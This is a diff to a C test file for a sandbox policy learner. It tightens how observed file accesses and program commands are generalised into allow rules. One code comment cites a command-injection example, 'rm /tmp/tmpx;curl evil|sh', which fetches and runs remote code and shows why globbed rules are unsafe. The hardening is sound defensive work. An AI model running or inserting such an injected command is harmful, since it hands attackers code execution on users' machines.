@@ -172,10 +172,34 @@ Test(generalize, siblings_collapse_at_threshold)
 	siblings(l, "/srv/app/few", 7, POLICY_RIGHT_READ);
 	generalize(l, &o);
 	char *t = json(l);
-	assert_has(t, "{ \"path\": \"/srv/app/data/*\", \"allow\": \"rw\", \"seen\": 9 }");
+	/*
+	 * Each right set counted on its own (review, 2026-11-23): eight names
+	 * read give "data/*" for reading; the one written stays its own rule,
+	 * not write access to every file there.
+	 */
+	assert_has(t, "{ \"path\": \"/srv/app/data/*\", \"allow\": \"r\", \"seen\": 8 }");
+	assert_has(t, "{ \"path\": \"/srv/app/data/filez.txt\", \"allow\": \"w\", \"seen\": 1 }");
 	assert_has(t, "\"/srv/app/few/filea.txt\"");
 	assert_lacks(t, "/srv/app/few/*");
 	assert_lacks(t, "/srv/app/*");
+	free(t);
+	learner_free(l);
+}
+
+/* Names with '?' (a '*' someone chose, bytes a pattern cannot say) do not count. */
+Test(generalize, chosen_names_do_not_count_toward_a_collapse)
+{
+	struct learner *l = fresh();
+	struct learn_options o = opts();
+	siblings(l, "/srv/up", 2, POLICY_RIGHT_READ);
+	static const char *const odd[] = {"/srv/up/*",	"/srv/up/a*", "/srv/up/b*", "/srv/up/c*",
+					  "/srv/up/d*", "/srv/up/e*", "/srv/up/f*"};
+	for (size_t i = 0; i < sizeof(odd) / sizeof(odd[0]); i++)
+		file(l, odd[i], POLICY_RIGHT_READ);
+	generalize(l, &o);
+	char *t = json(l);
+	assert_lacks(t, "/srv/up/*");
+	assert_has(t, "\"/srv/up/filea.txt\"");
 	free(t);
 	learner_free(l);
 }
@@ -476,14 +500,27 @@ Test(generalize, exec_code_is_never_generalized)
 	run(l, "/usr/bin/node", (const char *[]){"node", "-e", "2", NULL});
 	run(l, "/usr/bin/awk", (const char *[]){"awk", "{print $1}", "f1", NULL});
 	run(l, "/usr/bin/awk", (const char *[]){"awk", "{print $2}", "f1", NULL});
-	/* Data arguments of an interpreter do generalise. */
+	/*
+	 * Nor any argument of a program that runs code, whatever its options
+	 * (review, 2026-11-23): the code hides behind options code_arg() does
+	 * not parse, data may be evaluated ("$0"), a script's arguments too, and
+	 * a temporary name inside code would become "tmp*" ("rm /tmp/tmp*"
+	 * matches "rm /tmp/tmpx;curl evil|sh").
+	 */
 	run(l, "/usr/bin/python3.11", (const char *[]){"python3", "job.py", "1", NULL});
 	run(l, "/usr/bin/python3.11", (const char *[]){"python3", "job.py", "2", NULL});
+	run(l, "/bin/bash", (const char *[]){"bash", "-euo", "pipefail", "-c", "id", NULL});
+	run(l, "/bin/bash", (const char *[]){"bash", "-euo", "pipefail", "-c", "ls", NULL});
+	run(l, "/usr/bin/env", (const char *[]){"env", "sh", "-c", "rm /tmp/tmpAb1cd2ef", NULL});
 	generalize(l, &o);
 	char *t = json(l);
 	assert_has(t, "[\"sh\", \"-c\", \"id\"]");
 	assert_has(t, "[\"sh\", \"-c\", \"ls /tmp\"]");
-	assert_has(t, "[\"bash\", \"-ec\", \"echo $0\", \"*\"]");
+	assert_has(t, "[\"bash\", \"-ec\", \"echo $0\", \"a\"]");
+	assert_has(t, "[\"bash\", \"-ec\", \"echo $0\", \"b\"]");
+	assert_has(t, "[\"bash\", \"-euo\", \"pipefail\", \"-c\", \"id\"]");
+	assert_has(t, "[\"bash\", \"-euo\", \"pipefail\", \"-c\", \"ls\"]");
+	assert_has(t, "[\"env\", \"sh\", \"-c\", \"rm /tmp/tmpAb1cd2ef\"]");
 	assert_has(t, "[\"python3\", \"-c\", \"print(1)\"]");
 	assert_has(t, "[\"python3\", \"-c\", \"print(2)\"]");
 	assert_has(t, "[\"node\", \"-e\", \"1\"]");
@@ -491,8 +528,9 @@ Test(generalize, exec_code_is_never_generalized)
 	/* Braces are no glob syntax: '?' stands for them (and matches them). */
 	assert_has(t, "[\"awk\", \"?print $1?\", \"f1\"]");
 	assert_has(t, "[\"awk\", \"?print $2?\", \"f1\"]");
-	assert_has(t, "[\"python3\", \"job.py\", \"*\"]");
-	assert_lacks(t, "\"-c\", \"*\"");
+	assert_has(t, "[\"python3\", \"job.py\", \"1\"]");
+	assert_has(t, "[\"python3\", \"job.py\", \"2\"]");
+	assert_lacks(t, "*");
 	free(t);
 	learner_free(l);
 }
